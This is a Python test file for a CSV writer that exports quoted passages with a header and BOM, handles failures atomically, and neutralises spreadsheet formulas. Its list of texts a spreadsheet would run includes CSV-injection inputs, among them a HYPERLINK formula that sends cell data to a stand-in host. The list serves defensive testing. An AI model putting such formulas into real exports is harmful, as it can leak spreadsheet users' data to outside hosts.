from __future__ import annotations

import csv
import math
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest

from stancecoder.core.errors import StanceCoderError
from stancecoder.io.csv_writer import write_csv
from stancecoder.io.sheets import Column

COLUMNS = [Column("id", "int"), Column("quote", wrap=True), Column("published", "date")]


@contextmanager
def file_size_limit(limit: int) -> Iterator[None]:
    """Make writes beyond `limit` bytes fail as on a full disk (POSIX only)."""
    resource = pytest.importorskip("resource")
    import signal

    old_limit = resource.getrlimit(resource.RLIMIT_FSIZE)
    old_handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, old_limit[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, old_limit)
        signal.signal(signal.SIGXFSZ, old_handler)


def read_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_file_starts_with_a_bom_and_a_header(tmp_path: Path) -> None:
    target = tmp_path / "passages.csv"
    count = write_csv(target, COLUMNS, [(1, "Путин заявил", "2024-06-17")])

    assert count == 1
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,quote,published\r\n")
    assert read_rows(target) == [["id", "quote", "published"], ["1", "Путин заявил", "2024-06-17"]]


def test_values_are_written_as_iso_text_and_missing_as_empty(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    columns = [Column("a"), Column("b", "date"), Column("c", "datetime"), Column("d", "float")]
    moscow = timezone(timedelta(hours=3))
    rows = [
        (None, date(2024, 6, 17), datetime(2024, 6, 17, 10, 30), 0.1),
        ("x", "2024-06", datetime(2024, 6, 17, 10, 30, tzinfo=moscow), math.nan),
        (True, None, None, float("inf")),
    ]
    write_csv(target, columns, rows)

    assert read_rows(target)[1:] == [
        ["", "2024-06-17", "2024-06-17 10:30:00", "0.1"],
        ["x", "2024-06", "2024-06-17 10:30:00+03:00", ""],
        ["True", "", "", "inf"],
    ]


TEXTS_A_SPREADSHEET_WOULD_RUN = [
    "=SUM(A1:A2)",
    "+49 30 1234",
    "-2",
    "@user",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
]
HARMLESS_TEXTS = [
    'He said "no", then left.',
    "line one\nline two",
    "  padded  ",
    " =1+1",
    "a=b",
    "bell\x07",
    "'quoted already",
    "",
]


def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    texts = TEXTS_A_SPREADSHEET_WOULD_RUN + HARMLESS_TEXTS
    write_csv(target, [Column("quote")], [(text,) for text in texts])

    written = [row[0] for row in read_rows(target)[1:]]
    assert written == ["'" + text for text in TEXTS_A_SPREADSHEET_WOULD_RUN] + HARMLESS_TEXTS


def test_numbers_stay_numbers_when_formulas_are_neutralised(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    columns = [Column("stance value", "float"), Column("id", "int"), Column("label")]
    write_csv(target, columns, [(-2.0, -1, "-2"), (1.5, 3, "+1")])

    assert read_rows(target)[1:] == [["-2.0", "-1", "'-2"], ["1.5", "3", "'+1"]]


def test_raw_output_keeps_the_text_exactly(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    texts = TEXTS_A_SPREADSHEET_WOULD_RUN + HARMLESS_TEXTS
    write_csv(target, [Column("quote")], [(t,) for t in texts], neutralise_formulas=False)

    assert [row[0] for row in read_rows(target)[1:]] == texts


def test_long_text_is_not_truncated(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    long_text = "word " * 8_000
    write_csv(target, [Column("quote")], [(long_text,)])

    assert read_rows(target)[1] == [long_text]


def test_rows_are_streamed_from_a_generator_and_counted(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    count = write_csv(target, [Column("id", "int")], ((i,) for i in range(1_000)))

    rows = read_rows(target)
    assert count == 1_000
    assert len(rows) == 1_001
    assert rows[-1] == ["999"]


def test_an_empty_table_still_has_its_header(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    assert write_csv(target, COLUMNS, []) == 0
    assert read_rows(target) == [["id", "quote", "published"]]


def test_failing_rows_leave_the_existing_file_untouched(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("the previous export", encoding="utf-8")

    def rows() -> Iterator[tuple[int]]:
        yield (1,)
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError, match="database went away"):
        write_csv(target, [Column("id", "int")], rows())

    assert target.read_text(encoding="utf-8") == "the previous export"
    assert sorted(entry.name for entry in tmp_path.iterdir()) == ["out.csv"]


def test_a_finished_export_replaces_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("the previous export", encoding="utf-8")

    write_csv(target, [Column("id", "int")], [(1,)])

    assert read_rows(target) == [["id"], ["1"]]
    assert sorted(entry.name for entry in tmp_path.iterdir()) == ["out.csv"]


def test_a_row_of_the_wrong_length_is_refused(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    with pytest.raises(ValueError, match="data row 1: 3 values for 2 columns"):
        write_csv(target, [Column("a"), Column("b")], [("x", "y", "z")])
    assert not target.exists()


def test_missing_folder_is_a_clear_error(tmp_path: Path) -> None:
    target = tmp_path / "gone" / "out.csv"
    with pytest.raises(StanceCoderError, match=r"the folder .*gone does not exist"):
        write_csv(target, [Column("a")], [("x",)])


def test_a_folder_in_the_way_is_a_clear_error(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.mkdir()
    with pytest.raises(StanceCoderError, match=r"out\.csv: it is a folder"):
        write_csv(target, [Column("a")], [("x",)])
    assert sorted(entry.name for entry in tmp_path.iterdir()) == ["out.csv"]


def test_a_full_disk_is_a_clear_error_and_keeps_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("the previous export", encoding="utf-8")
    rows = [(f"passage {i} " * 20,) for i in range(1_000)]

    with file_size_limit(64 * 1024), pytest.raises(StanceCoderError, match="File too large"):
        write_csv(target, [Column("quote")], rows)

    assert target.read_text(encoding="utf-8") == "the previous export"
    assert sorted(entry.name for entry in tmp_path.iterdir()) == ["out.csv"]


def test_an_os_error_from_the_rows_is_not_blamed_on_the_target(tmp_path: Path) -> None:
    def rows() -> Iterator[tuple[str]]:
        yield ("x",)
        raise FileNotFoundError(2, "No such file or directory", "corpus.docx")

    with pytest.raises(FileNotFoundError, match=r"corpus\.docx"):
        write_csv(tmp_path / "out.csv", [Column("a")], rows())
